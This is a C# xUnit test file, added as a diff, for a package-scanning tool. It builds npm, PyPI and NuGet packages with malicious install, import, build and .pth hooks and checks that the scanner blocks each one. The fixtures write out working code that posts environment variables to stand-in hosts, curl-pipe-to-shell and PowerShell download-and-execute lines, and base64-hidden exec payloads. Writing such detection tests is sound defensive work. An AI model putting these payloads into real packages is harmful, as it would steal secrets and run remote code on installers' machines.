@@ -1,0 +1,164 @@
+using System.Formats.Tar;
+using System.IO.Compression;
+using System.Text;
+using Wellguard.Artifacts;
+using Wellguard.Reports;
+using Wellguard.Signals;
+using Wellguard.Verdicts;
+using Xunit;
+
+namespace Wellguard.Tests.Packages;
+
+/// <summary>Package files as registries give them: what they are, what of them runs, and what is wrong with them.</summary>
+public sealed class PackageScanTests
+{
+    private const string Metadata = "Metadata-Version: 2.1\nName: example\nVersion: 1.0\n";
+    private const string Steals = "import os, urllib.request\nurllib.request.urlopen('http://192.0.2.9/u', data=str(dict(os.environ)).encode())\n";
+    private const string StealsToo = "require('https').request({ host: 'collect.example', path: '/u', method: 'POST' }).end(JSON.stringify(process.env))\n";
+
+    /// <summary>Parsers and evaluation of one package have this long.</summary>
+    private static readonly TimeSpan Worst = TimeSpan.FromSeconds(20);
+
+    public static TheoryData<string, string, string[]> Triggers => new()
+    {
+        { "npm runs it when the package is installed: postinstall", "tgz", ["package/package.json", """{"name":"a","version":"1.0.0","scripts":{"postinstall":"node x.js"}}""", "package/x.js", StealsToo] },
+        { "runs when it is imported", "tgz", ["package/package.json", """{"name":"a","version":"1.0.0","main":"lib/x.js"}""", "package/lib/x.js", StealsToo] },
+        { "runs as the command run", "tgz", ["package/package.json", """{"name":"a","version":"1.0.0","bin":{"run":"x.js"}}""", "package/x.js", StealsToo] },
+        { "pip runs it when the package is installed", "tgz", ["a-1.0/PKG-INFO", Metadata, "a-1.0/setup.py", Steals] },
+        { "runs when it is imported", "tgz", ["a-1.0/PKG-INFO", Metadata, "a-1.0/setup.py", "", "a-1.0/a/__init__.py", Steals] },
+        { "runs when it is imported", "tgz", ["a-1.0/PKG-INFO", Metadata, "a-1.0/setup.py", "", "a-1.0/src/a/__init__.py", "from . import b\n", "a-1.0/src/a/b.py", Steals] },
+        { "runs when it is imported", "zip", ["a-1.0.dist-info/METADATA", Metadata, "a/__init__.py", Steals] },
+        { "path file: every start of Python", "zip", ["a-1.0.dist-info/METADATA", Metadata, "a.pth", "import os, urllib.request; urllib.request.urlopen('http://192.0.2.9/u', data=str(dict(os.environ)).encode())\n"] },
+        { "runs in every build of a project that uses the package", "zip", ["A.nuspec", "<package><metadata><id>A</id><version>1.0.0</version></metadata></package>", "build/A.targets", "<Project><Target Name=\"t\"><Exec Command=\"curl -s http://192.0.2.9/x | sh\" /></Target></Project>"] },
+        { "Visual Studio runs it when the package is installed", "zip", ["A.nuspec", "<package><metadata><id>A</id><version>1.0.0</version></metadata></package>", "tools/init.ps1", "iex (New-Object Net.WebClient).DownloadString('http://192.0.2.9/x')"] },
+    };
+
+    [Theory]
+    [MemberData(nameof(Triggers))]
+    public async Task What_runs_without_being_called_is_blocked_and_says_how(string trigger, string form, string[] files)
+    {
+        var report = await ScanAsync(Package(form, files));
+        Assert.True(report.Verdict.Decision == Decision.Block, string.Join(" ", report.Signals.Select(static signal => signal.Rule + ":" + signal.Severity)));
+        var strongest = report.Signals[0];
+        Assert.StartsWith(trigger, strongest.Trigger, StringComparison.Ordinal);
+        Assert.True(strongest.Where is { Path: not null, Line: > 0 });
+        Assert.Equal(ArtifactKind.Package, report.Artifact.Kind);
+        Assert.StartsWith("sha256:", report.Artifact.Digest, StringComparison.Ordinal);
+        Assert.StartsWith("pkg:", report.Artifact.Purl, StringComparison.Ordinal);
+        Assert.True(report.Tree.Nodes.Count > 1);
+    }
+
+    [Fact]
+    public async Task Lifecycle_scripts_that_an_installation_does_not_run_weigh_less()
+    {
+        var report = await ScanAsync(Package("tgz", ["package/package.json", """{"name":"a","version":"1.0.0","scripts":{"prepare":"curl http://192.0.2.9/x | sh"}}""", "package/test/package.json", """{"name":"b","scripts":{"postinstall":"curl http://192.0.2.9/x | sh"}}"""]));
+        Assert.NotEqual(Decision.Block, report.Verdict.Decision);
+    }
+
+    [Fact]
+    public async Task What_was_hidden_is_shown_decoded()
+    {
+        var hidden = Convert.ToBase64String(Encoding.UTF8.GetBytes("import os\nos.system('curl http://192.0.2.9/x | sh')"));
+        var report = await ScanAsync(Package("tgz", ["a-1.0/PKG-INFO", Metadata, "a-1.0/setup.py", $"import base64\nexec(base64.b64decode('{hidden}'))\n"]));
+        var signal = report.Signals.First(static signal => signal.Rule == "content/runs-decoded-code");
+        Assert.Equal(("a-1.0/setup.py", 2, 1), (signal.Where.Path, signal.Where.Line, signal.Where.Column));
+        Assert.Contains(signal.Evidence, static evidence => evidence.Kind == EvidenceKind.Decoded && evidence.Text.Contains("curl http://192.0.2.9/x", StringComparison.Ordinal));
+    }
+
+    [Fact]
+    public async Task A_cipher_whose_key_stands_beside_it_hides_nothing()
+    {
+        // Fernet specification, generate.json: key and token of "hello"; here a token of our own making with the same form.
+        const string Key = "cw_0x689RpI-jtRR7oE8h_eQsKImvJapLeSbXpwF4e4=";
+        const string Token = "gAAAAAAdwJ6wAAECAwQFBgcICQoLDA0ODy021cpGVWKZ_eEwCGM4BLLF_5CV9dOPmrhuVUPgJobwOz7JcbmrR64jVmpU4IwqDA==";
+        var report = await ScanAsync(Package("tgz", ["a-1.0/PKG-INFO", Metadata, "a-1.0/setup.py", $"from cryptography.fernet import Fernet\nexec(Fernet(b'{Key}').decrypt(b'{Token}'))\n"]));
+        Assert.Contains(report.Signals, static signal => signal.Rule == "content/runs-decoded-code" && signal.Evidence.Any(static evidence => evidence.Text.Contains("hello", StringComparison.Ordinal)));
+    }
+
+    [Theory]
+    [InlineData("half a gzip")]
+    [InlineData("an empty file")]
+    [InlineData("a tar that ends early")]
+    public async Task What_cannot_be_opened_fails_with_its_reason(string what)
+    {
+        var whole = Package("tgz", ["package/package.json", """{"name":"a","version":"1.0.0"}""", "package/x.js", new string('x', 200_000) + Guid.Empty]);
+        var bytes = what switch { "half a gzip" => whole[..(whole.Length / 2)], "an empty file" => [], _ => Gzip(Plain(whole)[..1000]) };
+        var problem = await Assert.ThrowsAsync<UnreadableException>(() => ScanAsync(bytes));
+        Assert.NotEmpty(problem.Why);
+    }
+
+    [Theory]
+    [InlineData("40,000 characters in a line")]
+    [InlineData("10,000 brackets")]
+    [InlineData("invalid UTF-8")]
+    [InlineData("Python 2 and mixed indentation")]
+    [InlineData("a bundle of 20 MB")]
+    [InlineData("a manifest that lies")]
+    public async Task What_is_hard_to_read_has_a_report_within_the_time(string what)
+    {
+        string[] files = what switch
+        {
+            "40,000 characters in a line" => ["package/package.json", """{"name":"a","version":"1.0.0"}""", "package/index.js", "var a = [" + string.Join(',', Enumerable.Range(0, 8_000)) + "];\n" + StealsToo],
+            "10,000 brackets" => ["package/package.json", """{"name":"a","version":"1.0.0"}""", "package/index.js", StealsToo + new string('(', 10_000) + new string(')', 10_000)],
+            "invalid UTF-8" => ["a-1.0/PKG-INFO", Metadata, "a-1.0/setup.py", Steals + "x = '\ud800'\n"],
+            "Python 2 and mixed indentation" => ["a-1.0/PKG-INFO", Metadata, "a-1.0/setup.py", "print 'a'\nif 1:\n\tx = 1\n        y = 2\nexec 'z = 3'\n" + Steals],
+            "a bundle of 20 MB" => ["package/package.json", """{"name":"a","version":"1.0.0"}""", "package/index.js", StealsToo + string.Concat(Enumerable.Repeat("function f(a){return a+1};f(f(2));", 620_000))],
+            _ => ["package/package.json", """{"name":"a","version":"1.0.0","main":"../../../etc/passwd","bin":{"x":"/../../y"},"dependencies":[1,2]}""", "package/index.js", StealsToo],
+        };
+        var clock = System.Diagnostics.Stopwatch.StartNew();
+        var report = await ScanAsync(Package("tgz", files));
+        Assert.True(clock.Elapsed < Worst, $"{clock.Elapsed}");
+        Assert.True(report.Verdict.Decision == Decision.Block || report.Completeness.State != CompletenessState.Complete, $"{report.Verdict.Level} {report.Verdict.Score}");
+    }
+
+    private static async Task<Report> ScanAsync(byte[] bytes)
+    {
+        var images = await ImageSources.OpenAsync(ByteSource.OfMemory(bytes), "package", new OpenOptions(Path.GetTempPath()), TestContext.Current.CancellationToken);
+        return await Pipeline.ScanAsync(Assert.Single(images), new ScanOptions(Policy.Default, new DateOnly(2026, 1, 1)), TestContext.Current.CancellationToken);
+    }
+
+    /// <param name="files">A path, then its text, again and again.</param>
+    private static byte[] Package(string form, string[] files)
+    {
+        using var bytes = new MemoryStream();
+        if (form == "zip")
+        {
+            using var zip = new ZipArchive(bytes, ZipArchiveMode.Create, leaveOpen: true);
+            foreach (var pair in files.Chunk(2))
+            {
+                using var content = zip.CreateEntry(pair[0]).Open();
+                content.Write(Encoding.UTF8.GetBytes(pair[1]));
+            }
+        }
+        else
+        {
+            using var gzip = new GZipStream(bytes, CompressionLevel.Fastest, leaveOpen: true);
+            using var tar = new System.Formats.Tar.TarWriter(gzip, TarEntryFormat.Ustar);
+            foreach (var pair in files.Chunk(2))
+            {
+                tar.WriteEntry(new UstarTarEntry(TarEntryType.RegularFile, pair[0]) { DataStream = new MemoryStream(Encoding.UTF8.GetBytes(pair[1])) });
+            }
+        }
+
+        return bytes.ToArray();
+    }
+
+    private static byte[] Plain(byte[] gzip)
+    {
+        using var stream = new GZipStream(new MemoryStream(gzip), CompressionMode.Decompress);
+        using var plain = new MemoryStream();
+        stream.CopyTo(plain);
+        return plain.ToArray();
+    }
+
+    private static byte[] Gzip(byte[] plain)
+    {
+        using var bytes = new MemoryStream();
+        using (var gzip = new GZipStream(bytes, CompressionLevel.Fastest, leaveOpen: true))
+        {
+            gzip.Write(plain);
+        }
+
+        return bytes.ToArray();
+    }
+}
